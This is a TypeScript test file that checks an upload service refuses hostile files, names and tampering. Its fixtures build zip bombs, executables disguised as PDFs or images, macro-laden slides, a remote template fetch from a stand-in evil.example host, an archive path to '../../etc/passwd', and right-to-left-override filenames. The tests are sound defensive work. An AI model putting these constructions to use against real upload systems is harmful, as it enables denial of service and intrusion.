import { zipSync } from 'fflate'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { applicant, enterpriseForm, filledDraft } from '../../setup/applications'
import { type FreshDatabase, freshDatabase } from '../../setup/database'
import { type Chosen, type FilesWorld, filesWorld, hashOf } from '../../setup/files'
import type { TestPerson } from '../../setup/people'
import { sampleMp4, sampleOffice, samplePdf, samplePng } from '../../setup/sample-files'

let db: FreshDatabase
let world: FilesWorld
let who: TestPerson
let application: string
beforeAll(async () => {
  db = await freshDatabase()
  world = await filesWorld(db)
})
afterAll(async () => {
  await world.close()
  await db.drop()
})
beforeEach(async () => {
  who = await applicant(world)
  ;({ application } = await filledDraft(world, who, enterpriseForm()))
  await world.tick(who, application)
})

const bytes = (text: string) => Uint8Array.from(Buffer.from(text, 'latin1'))
const joined = (...parts: Uint8Array[]) => Uint8Array.from(Buffer.concat(parts))
const exe = joined(bytes('MZ\x90\0'), new Uint8Array(300))
const pitch = (content: Uint8Array, name = '路演.pptx'): Chosen => ({ slot: 'pitch', name, bytes: content })
const proof = (content: Uint8Array, name: string): Chosen => ({ slot: 'licence', name, bytes: content })

/** An archive whose directory claims more than is there, as bombs of shared bytes do. */
function overlapping(): Uint8Array {
  const archive = sampleOffice('pptx', { 'a.xml': 'x'.repeat(50), 'b.xml': 'y'.repeat(50) })
  const view = Buffer.from(archive)
  const first = view.indexOf(Buffer.from([0x50, 0x4b, 1, 2]))
  for (let at = first; at >= 0; at = view.indexOf(Buffer.from([0x50, 0x4b, 1, 2]), at + 4))
    view.writeUInt32LE(0, at + 42)
  return Uint8Array.from(view)
}

/** 42 kB that unfold to a gigabyte and more. */
const bomb = () => zipSync({ 'ppt/media/a.xml': [new Uint8Array(40_000_000), { level: 9 }] })

/** An entry that says it is small and is not. */
function lyingEntry(): Uint8Array {
  const archive = Buffer.from(sampleOffice('pptx', { '_rels/.rels': ' '.repeat(5_000_000) }))
  const name = Buffer.from('_rels/.rels')
  for (let at = archive.indexOf(name); at >= 0; at = archive.indexOf(name, at + 1)) {
    if (archive.readUInt32LE(at - 46) === 0x02014b50) archive.writeUInt32LE(10, at - 46 + 24)
  }
  return Uint8Array.from(archive)
}

function withPassword(): Uint8Array {
  const archive = Buffer.from(sampleOffice('pptx'))
  archive.writeUInt16LE(1, archive.indexOf(Buffer.from([0x50, 0x4b, 1, 2])) + 8)
  return Uint8Array.from(archive)
}

const hyperlink = (target: string, type = 'hyperlink') =>
  `<Relationships><Relationship Id="r" Type="http://x/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`
const wide = () => {
  const png = Buffer.from(samplePng)
  png.writeUInt32BE(10_000, 16)
  png.writeUInt32BE(5_001, 20)
  return Uint8Array.from(png)
}

describe('hostile content', () => {
  test.each<[string, () => Chosen | Promise<Chosen>, string]>([
    ['a program called a PDF', () => proof(exe, '执照.pdf'), '内容不是PDF'],
    ['a program called a picture', () => proof(exe, '执照.png'), '内容不是PNG'],
    [
      'a web page called a picture',
      () => proof(bytes('<html><script>1</script>'), '执照.jpg'),
      '内容不是JPG',
    ],
    [
      'a PDF called a film',
      async () => ({ slot: 'video', name: '片.mp4', bytes: await samplePdf() }),
      '内容不是MP4',
    ],
    [
      'a PDF with an archive behind it',
      async () => proof(joined(await samplePdf(), zipSync({ a: exe })), '执照.pdf'),
      '夹带',
    ],
    [
      'a picture with an archive behind it',
      () => proof(joined(samplePng, zipSync({ a: exe })), '执照.png'),
      '夹带',
    ],
    [
      'a film with an archive behind it',
      () => ({ slot: 'video', name: '片.mp4', bytes: joined(sampleMp4, zipSync({ a: exe })) }),
      '夹带',
    ],
    [
      'a picture with a PDF in its head',
      () => proof(joined(samplePng.subarray(0, 33), bytes('%PDF-1.4'), samplePng.subarray(33)), '执照.png'),
      '夹带了别的内容',
    ],
    ['a PDF cut off', async () => proof((await samplePdf()).slice(0, 300), '执照.pdf'), '不完整'],
    ['a picture cut off', () => proof(samplePng.slice(0, 40), '执照.png'), '不完整'],
    ['a picture of more than 50 megapixels', () => proof(wide(), '执照.png'), '5000万像素'],
    ['an archive that is no office file', () => pitch(zipSync({ 'a.txt': bytes('a') })), '内容不是PPTX'],
    ['a Word file called slides', () => pitch(sampleOffice('docx')), '内容不是PPTX'],
    ['slides with macros', () => pitch(sampleOffice('pptx', { 'ppt/vbaProject.bin': exe })), '宏'],
    [
      'slides that declare macros',
      () =>
        pitch(
          sampleOffice('pptx', {
            '[Content_Types].xml':
              '<Types><Override ContentType="application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"/></Types>',
          }),
        ),
      '宏',
    ],
    [
      'slides that fetch a template',
      () =>
        pitch(
          sampleOffice('pptx', {
            'ppt/_rels/a.xml.rels': hyperlink('http://evil.example/t.potm', 'attachedTemplate'),
          }),
        ),
      '外部内容',
    ],
    [
      'slides with a link into a share',
      () => pitch(sampleOffice('pptx', { 'ppt/_rels/a.xml.rels': hyperlink('file://server/share') })),
      '外部内容',
    ],
    ['a bomb of zeros', () => pitch(bomb()), '展开后太大'],
    ['a bomb of shared bytes', () => pitch(overlapping()), '展开后太大'],
    ['an entry larger than it says', () => pitch(lyingEntry()), '展开后太大'],
    ['slides with a password', () => pitch(withPassword()), '密码'],
    [
      'slides with a path out of the archive',
      () => pitch(sampleOffice('pptx', { '../../etc/passwd': 'x' })),
      '路径',
    ],
    ['slides cut off', () => pitch(sampleOffice('pptx').slice(0, 200)), '不完整'],
  ])('%s is refused in a sentence', async (_, make, words) => {
    const file = await world.upload(who, application, await make())
    expect(file).toMatchObject({ state: 'refused', stateText: '没有收下' })
    expect(file.refusal).toContain(words)
    expect([...file.refusal!].length).toBeLessThanOrEqual(40)
    expect(await world.ask(who, ['applications', 'openFile'], { file: file.id })).toMatchObject({
      failure: { code: 'STATE_REFUSED' },
    })
  })

  test.each<[string, () => Chosen | Promise<Chosen>]>([
    ['slides', () => pitch(sampleOffice('pptx'))],
    [
      'slides with a link to tap',
      () => pitch(sampleOffice('pptx', { 'ppt/_rels/a.xml.rels': hyperlink('https://www.example.cn') })),
    ],
    ['a PDF', async () => pitch(await samplePdf(), '路演.pdf')],
    ['a picture', () => proof(samplePng, '执照.PNG')],
    ['a film', () => ({ slot: 'video', name: '片.mp4', bytes: sampleMp4 })],
  ])('%s as they should be are taken', async (_, make) => {
    expect(await world.upload(who, application, await make())).toMatchObject({
      state: 'ready',
      refusal: null,
    })
  })
})

describe('hostile names', () => {
  test.each([
    ['a program', '计划.exe', '只收PDF'],
    ['a second ending', '计划.pdf.exe', '只收PDF'],
    ['a program in the middle', '计划.exe.pdf', '后缀'],
    ['a page in the middle', '计划.html.pdf', '后缀'],
    ['a path', '../../计划.pdf', '不能有'],
    ['a path of Windows', 'C:\\计划.pdf', '不能有'],
    ['a name that reads backwards', '计划\u202Efdp.exe.pdf', '看不见'],
    ['a sign without width', '计\u200B划.pdf', '看不见'],
    ['a line break', '计划\n.pdf', '看不见'],
    ['a hidden file', '.pdf', '点开头'],
    ['no ending', '计划', '只收PDF'],
  ])('%s is refused before a byte travels', async (_, name, words) => {
    const asked = world.asked(application, { slot: 'business-plan', name, bytes: await samplePdf() })
    const reply = await world.ask(who, ['applications', 'beginUpload'], asked)
    expect(reply).toMatchObject({ failure: { code: 'INPUT_INVALID' } })
    const { fields } = (reply as { failure: { details: { fields: { path: string; message: string }[] } } })
      .failure.details
    expect(fields[0]).toMatchObject({ path: 'name', message: expect.stringContaining(words) })
  })
})

describe('hostile ways', () => {
  const begun = async () => {
    const pdf = await samplePdf()
    const file = { slot: 'business-plan', name: '计划.pdf', bytes: pdf }
    return {
      pdf,
      upload: await world.get(who, ['applications', 'beginUpload'], world.asked(application, file)),
    }
  }

  test('a part the file does not have gets no ticket', async () => {
    const { upload } = await begun()
    for (const part of [2, 10_000])
      expect(
        await world.ask(who, ['applications', 'partTickets'], { upload: upload.upload, parts: [1, part] }),
      ).toMatchObject({ failure: { code: 'INPUT_INVALID' } })
  })

  test('another content than was announced is refused', async () => {
    const { pdf, upload } = await begun()
    await world.send(who, upload, pdf)
    expect(
      await world.get(who, ['applications', 'finishUpload'], {
        upload: upload.upload,
        sha256: hashOf(samplePng),
      }),
    ).toMatchObject({ state: 'refused', refusal: expect.stringContaining('不一致') })
  })

  test('a finished file takes no more parts', async () => {
    const { pdf, upload } = await begun()
    await world.send(who, upload, pdf)
    await world.get(who, ['applications', 'finishUpload'], { upload: upload.upload, sha256: null })
    expect(
      await world.ask(who, ['applications', 'partTickets'], { upload: upload.upload, parts: [1] }),
    ).toMatchObject({ failure: { code: 'STATE_REFUSED' } })
  })

  test('a slot nobody has and a mark nobody made are refused', async () => {
    const pdf = await samplePdf()
    const file = world.asked(application, { slot: 'secrets', name: 'a.pdf', bytes: pdf })
    expect(await world.ask(who, ['applications', 'beginUpload'], file)).toMatchObject({
      failure: { details: { fields: [{ path: 'slot' }] } },
    })
    expect(
      await world.ask(who, ['applications', 'beginUpload'], { ...file, slot: 'pitch', fingerprint: 'x' }),
    ).toMatchObject({ failure: { details: { fields: [{ path: 'fingerprint' }] } } })
  })

  test('the content of a file and what was handed in cannot be changed behind the operations', async () => {
    const { pdf, upload } = await begun()
    await world.send(who, upload, pdf)
    await world.get(who, ['applications', 'finishUpload'], { upload: upload.upload, sha256: null })
    const { version } = await world.get(who, ['applications', 'files'], { application })
    await world.get(who, ['applications', 'submit'], { application, expectedVersion: version })
    for (const query of [
      `update csc.application_file set sha256 = 'x' where id = $1`,
      `update csc.application_file set storage_key = 'x' where id = $1`,
      `update csc.application_file set cleared_at = now() where id = $1`,
      'delete from csc.application_file where id = $1',
      `update csc.submission_file set submission = 9 where file_id = $1`,
      'delete from csc.submission_file where file_id = $1',
    ])
      await expect(db.pool.query(query, [upload.upload])).rejects.toThrow()
  })
})
